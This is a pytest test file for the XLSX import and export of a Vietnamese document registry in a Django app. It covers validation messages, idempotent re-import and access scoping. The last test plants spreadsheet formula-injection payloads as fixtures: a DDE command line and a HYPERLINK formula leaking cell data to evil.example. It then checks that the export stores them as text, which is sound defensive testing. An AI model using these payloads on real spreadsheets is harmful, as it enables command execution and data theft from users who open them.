"""Import from XLSX (all or nothing, Vietnamese row/column report, idempotent) and export round trip."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from quantriet.documents.models import Document, Status
from quantriet.orgs.models import ImportJob, ImportStatus
from tests.conftest import World
from tests.documents.helpers import central, make_document

pytestmark = pytest.mark.django_db

HEADER = [
    "Loại văn bản",
    "Số ký hiệu",
    "Ngày ban hành",
    "Trích yếu",
    "Cơ quan ban hành",
    "Khóa",
    "Trạng thái",
    "Công khai",
]
ROWS = [
    [
        "Nghị quyết",
        "35-NQ/TW",
        "22/10/2018",
        "Bảo vệ nền tảng tư tưởng của Đảng",
        "TW",
        "XII",
        "Còn hiệu lực",
        "Có",
    ],
    ["Nghị quyết", "22-NQ/TW", dt.datetime(2008, 2, 2), "", "TW", "", "", "Có"],
    ["quy dinh", "08-QĐi/TW", "", "", "", "", "", "x"],
    ["Kế hoạch", "15-KH/TU", "14/01/2019", "Thực hiện Nghị quyết 35", "PROV", "", "Còn hiệu lực", "Không"],
]


def xlsx(rows: list[list[Any]], *, title: bool = True) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    if title:
        sheet.append(["DANH MỤC VĂN BẢN"])
        sheet.append([])
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(world: World, data: bytes, user: Any = None, name: str = "van-ban.xlsx") -> Any:
    client = world.client_for(user or world.alice)
    response = client.post("/documents/import/", {"file": SimpleUploadedFile(name, data)}, follow=True)
    # The upload becomes a job (run at once by the tests' task backend) and the page follows it to its
    # page: a finished import counts as the old redirect (302), a refused file as the old 400.
    if response.redirect_chain:
        job = ImportJob.objects.filter(kind="documents").order_by("-created_at").first()
        assert job is not None and response.redirect_chain[-1][0] == f"/documents/import/{job.pk}/"
        response.status_code = 302 if job.status == ImportStatus.DONE else 400
    return response


def test_a_list_is_imported_and_importing_it_again_changes_nothing(world: World) -> None:
    response = upload(world, xlsx(ROWS))
    assert response.status_code == 302, response.content.decode()[:3000]
    assert Document.objects.count() == 4
    resolution = Document.objects.get(symbol="35-NQ/TW")
    assert (resolution.issued_on, resolution.term, resolution.is_public) == (
        dt.date(2018, 10, 22),
        "XII",
        True,
    )
    assert resolution.issuing_unit is None and resolution.issuer == "TW"
    assert Document.objects.get(symbol="08-QĐi/TW").doc_type == "Quy định"
    plan = Document.objects.get(symbol="15-KH/TU")
    assert plan.issuing_unit == world.province and not plan.is_public
    before = list(Document.objects.order_by("pk").values())
    again = upload(world, xlsx(ROWS))
    assert again.status_code == 302
    assert "0 văn bản mới, 0 văn bản được cập nhật, 4 văn bản không đổi" in again.content.decode()
    after = list(Document.objects.order_by("pk").values())
    assert [{k: v for k, v in row.items() if k != "updated_at"} for row in after] == [
        {k: v for k, v in row.items() if k != "updated_at"} for row in before
    ]


def test_a_changed_row_updates_the_document_and_completes_a_placeholder(world: World) -> None:
    make_document("01-KH/TU", "Kế hoạch", issuing_unit=world.province, body="Theo Quy định 08-QĐi/TW.")
    placeholder = Document.objects.get(symbol="08-QĐi/TW")
    assert not placeholder.confirmed
    assert upload(world, xlsx(ROWS)).status_code == 302
    placeholder.refresh_from_db()
    assert placeholder.confirmed and placeholder.doc_type == "Quy định"
    changed = [row[:] for row in ROWS]
    changed[0][6] = "Đã được thay thế"
    assert upload(world, xlsx(changed)).status_code == 302
    assert Document.objects.get(symbol="35-NQ/TW").status == Status.REPLACED


def test_every_bad_row_is_reported_by_row_and_column_and_nothing_is_written(world: World) -> None:
    rows = [
        ROWS[0],
        ["Quy định", "35-NQ/TW", "21/10/2018", "", "TW", "", "", "Có"],  # symbol contradicts type
        ["Sắc lệnh mới", "12-SL", "", "", "", "", "", ""],  # unknown type
        ["Kế hoạch", "16-KH/TU", "31/02/2019", "", "PROV", "", "", ""],  # impossible date
        ["Kế hoạch", "17-KH/TU", "", "", "XB9", "", "Hết hạn", "Có lẽ"],  # unknown unit, status, public
        ROWS[0],  # duplicate of row 4
    ]
    response = upload(world, xlsx(rows))
    assert response.status_code == 400
    page = response.content.decode()
    for expected in (
        "Ký hiệu 35-NQ/TW là của một Nghị quyết, không phải Quy định",
        "Loại văn bản “Sắc lệnh mới” không có trong danh mục",
        "không có thật",
        "Không có đơn vị mã “XB9”",
        "Trạng thái “Hết hạn” không rõ",
        "Ô Công khai ghi “Có lẽ”",
        "đã có ở dòng 4 của tệp",
    ):
        assert expected in page, expected
    assert '<td data-label="Dòng">5</td>' in page
    assert not Document.objects.exists()


def test_a_commune_cannot_import_documents_of_a_sibling_or_of_the_centre(world: World) -> None:
    rows = [
        ["Kế hoạch", "05-KH/ĐU", "01/02/2024", "", "XA", "", "", ""],
        ["Nghị quyết", "35-NQ/TW", "22/10/2018", "", "TW", "", "", "Có"],
    ]
    response = upload(world, xlsx(rows), user=world.charlie)
    assert response.status_code == 400
    page = response.content.decode()
    assert "Không có đơn vị mã “XA”" in page
    assert "Bạn không có quyền vào sổ hay sửa văn bản 35-NQ/TW" in page
    assert not Document.objects.exists()
    assert world.client_for(world.bob).get("/documents/import/").status_code == 404


def test_files_that_are_not_spreadsheets_are_refused(world: World) -> None:
    response = upload(world, b"%PDF-1.4 not a sheet", name="van-ban.xlsx")
    assert response.status_code == 400
    assert "không phải là bảng tính" in response.content.decode()
    missing = upload(world, "Số ký hiệu\n35-NQ/TW\n".encode(), name="van-ban.csv")
    assert missing.status_code == 400 and "Loại văn bản" in missing.content.decode()


def test_the_export_reimports_to_the_same_registry(world: World) -> None:
    central("35-NQ/TW", "Nghị quyết", dt.date(2018, 10, 22), subject="Bảo vệ nền tảng", term="XII")
    central("21-HD/BTCTW", "Hướng dẫn")
    make_document(
        "15-KH/TU", "Kế hoạch", dt.date(2019, 1, 14), issuing_unit=world.province, status="replaced"
    )
    response = world.client_for(world.alice).get("/documents/export.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    assert [
        "Nghị quyết",
        "35-NQ/TW",
        "22/10/2018",
        "Bảo vệ nền tảng",
        "TW",
        "XII",
        "Còn hiệu lực",
        "Có",
    ] in rows
    assert ["Kế hoạch", "15-KH/TU", "14/01/2019", None, "PROV", None, "Đã được thay thế", "Không"] in rows
    before = list(
        Document.objects.order_by("pk").values("symbol", "issued_on", "status", "is_public", "term")
    )
    again = upload(world, response.content)
    assert again.status_code == 302
    assert "0 văn bản mới, 0 văn bản được cập nhật, 3 văn bản không đổi" in again.content.decode()
    assert (
        list(Document.objects.order_by("pk").values("symbol", "issued_on", "status", "is_public", "term"))
        == before
    )


def test_the_export_holds_only_what_the_user_may_see(world: World) -> None:
    make_document("02-KH/ĐU", "Kế hoạch", dt.date(2024, 2, 1), issuing_unit=world.xa)
    make_document("03-KH/ĐU", "Kế hoạch", dt.date(2024, 2, 1), issuing_unit=world.xb)
    sheet = openpyxl.load_workbook(
        io.BytesIO(world.client_for(world.charlie).get("/documents/export.xlsx").content)
    )
    symbols = [row[1] for row in sheet.active.iter_rows(min_row=2, values_only=True)]
    assert symbols == ["03-KH/ĐU"]


def test_the_export_writes_subjects_and_symbols_that_look_like_formulas_as_text(world: World) -> None:
    document = central("35-NQ/TW", "Nghị quyết", dt.date(2018, 10, 22), subject="Bảo vệ nền tảng")
    # As a path with fewer checks could have stored them; U+0001 once made the export answer 500.
    Document.objects.filter(pk=document.pk).update(
        symbol="=cmd|' /C calc'!A0", subject='=HYPERLINK("http://evil.example/?u="&A5,"x")\x01', term="+1"
    )
    response = world.client_for(world.alice).get("/documents/export.xlsx")
    assert response.status_code == 200
    row = next(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in (row[1], row[3], row[5])] == [
        ("=cmd|' /C calc'!A0", "s"),
        ('=HYPERLINK("http://evil.example/?u="&A5,"x")', "s"),
        ("+1", "s"),
    ]
